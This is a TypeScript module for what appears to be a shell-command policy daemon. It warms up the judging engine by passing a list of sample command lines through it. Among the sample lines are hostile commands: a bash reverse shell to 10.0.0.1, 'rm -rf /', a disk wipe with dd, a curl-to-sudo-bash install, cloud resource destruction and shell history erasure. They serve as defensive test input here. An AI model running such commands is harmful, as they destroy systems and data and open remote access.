import { setImmediate, setTimeout } from 'node:timers/promises'
import { HookFrameDecoder } from '../wire/hook/frame.ts'
import type { HookFrame } from '../wire/hook/frame.ts'
import { parseHookFrame } from '../wire/hook/message.ts'
import type { Decision } from '../core/policy/decision.ts'
import type { ShellName } from '../core/shell/facts.ts'
import type { Judge } from './judge.ts'

export type WarmUpParts = {
  readonly judge: Judge
  readonly explain: (decision: Decision, line: string) => string
  readonly redact: (text: string) => unknown
  readonly home: string
}

/** Lines of the kinds that shells really run, so that the paths they take are compiled before somebody waits for one. */
const LINES = [
  'ls -la',
  'cd ../src && make -j4 test 2>&1 | tee build.log',
  'git commit -am "fix: a thing" && git push --force-with-lease origin HEAD',
  'git log --oneline --graph | head -20',
  'for f in *.txt; do mv "$f" "${f%.txt}.md"; done',
  'find . -name "*.o" -mtime +7 -exec rm -f {} +',
  'curl -fsSL https://example.org/install.sh | sudo bash -s -- --yes',
  'sudo -u postgres psql -c "select 1"',
  'docker run --rm -it -v "$PWD:/w" -e TOKEN=abc alpine sh -c "cd /w && ls"',
  'kubectl --context prod delete pod web-1 -n default',
  'rm -rf -- ./build node_modules',
  'rm -rf /',
  'echo "$(date +%s) $((1 + 2)) ${HOME}/x" >> ~/.notes',
  'if [[ -f a && $x == y* ]]; then cat <<<"$x"; else false; fi',
  'cat <<EOF > /tmp/x\nhello $USER\nEOF',
  'env FOO=1 BAR="two words" timeout 5 python3 -c "print(1)"',
  'eval "$(ssh-agent -s)"; ssh host "uptime; df -h"',
  'while read -r line; do echo "$line"; done < <(sort in.txt | uniq -c)',
  'npm install --save-dev typescript@latest && npx tsc -p .',
  'tar czf - dir | ssh backup "cat > dir.tgz" &',
  "awk -F: '{ print $1 }' /etc/passwd | xargs -n1 echo",
  'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1',
  'terraform destroy -auto-approve; aws s3 rm s3://bucket --recursive',
  'f() { local a=$1; shift; printf "%s\\n" "$a" "$@"; }; f {1..3}',
  'chmod -R 777 / ; dd if=/dev/zero of=/dev/sda bs=1M',
  'history -c; unset HISTFILE; export PATH=/tmp:$PATH',
] as const

const ACTORS = [
  { kind: 'human', name: null, evidence: 'corroborated' },
  { kind: 'agent', name: 'claude-code', evidence: 'corroborated' },
] as const

/** Until the last of the engine's compilers has had its turn. */
const ROUNDS = 150
/** What nobody waits for need not be that fast. */
const REDACTED_ROUNDS = 12
const WORK_MS = 0.3
const PAUSE_MS = 2

/**
 * Judges varied lines so that the code which real ones will take is compiled; each step is one line, nothing is kept. The
 * first steps are taken before the daemon serves, the rest by `warmUpSlowly`.
 */
export function* warmUp({ judge, explain, redact, home }: WarmUpParts): Generator<undefined, void> {
  const decoder = new HookFrameDecoder()
  for (let round = 0; round < ROUNDS; round += 1) {
    const shell: ShellName = round % 2 === 0 ? 'bash' : 'zsh'
    const actor = ACTORS[round % ACTORS.length] ?? ACTORS[0]
    const take = (frame: HookFrame): void => {
      const message = parseHookFrame(frame)
      if (!message.ok || message.value.kind !== 'ask' || message.value.text === null) return
      const line = Buffer.from(message.value.text).toString('utf8')
      const decision = judge({ line, shell, cwd: home, home, actor, interactive: true, aliases: null })
      if (decision.rule !== null) explain(decision, line)
      if (round < REDACTED_ROUNDS) redact(line)
    }
    for (const base of LINES) {
      // Never the same text twice: a cache by text would hide the work.
      decoder.push(Buffer.from(`1Q0\0${home}\0${base} # ${round}\0${round} p\0`), take)
      yield
    }
  }
}

/** Takes steps for `budgetMs` of work, and lets other work go on in between. */
export async function warmUpFor(
  steps: Generator<undefined, void>,
  budgetMs: number,
  nowMs: () => number,
): Promise<void> {
  for (let spentMs = 0; spentMs < budgetMs;) {
    const beforeMs = nowMs()
    if (steps.next().done === true) return
    spentMs += nowMs() - beforeMs
    await setImmediate()
  }
}

/** Takes the remaining steps beside the daemon's work: a shell that asks meanwhile waits for a few lines at most. */
export async function warmUpSlowly(steps: Generator<undefined, void>, signal: AbortSignal): Promise<void> {
  while (!signal.aborted) {
    const endMs = performance.now() + WORK_MS
    while (performance.now() < endMs) if (steps.next().done === true) return
    await setTimeout(PAUSE_MS)
  }
}
